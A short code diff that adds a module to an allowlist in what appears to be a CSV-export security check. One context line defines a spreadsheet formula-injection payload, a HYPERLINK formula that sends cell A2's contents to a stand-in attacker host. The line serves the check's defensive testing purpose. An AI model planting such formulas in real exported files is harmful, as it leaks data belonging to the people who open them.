@@ -18,6 +18,9 @@ NOT_DOWNLOADS = {
     "core/exports.py",  # the safe export path itself
     "cli.py",  # the command line prints to the analyst's own terminal
     "intelligence/datasets/demo.py",  # writes invented demo input files to disk
+    # names the document types it checks uploaded papers against; it serves a paper back
+    # byte for byte as an attachment (nosniff), building no table of its own
+    "core/documents.py",
 }
 RAW_CSV = re.compile(r"text/csv|csv\.writer|csv\.DictWriter|spreadsheetml|opendocument")
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"Click")'
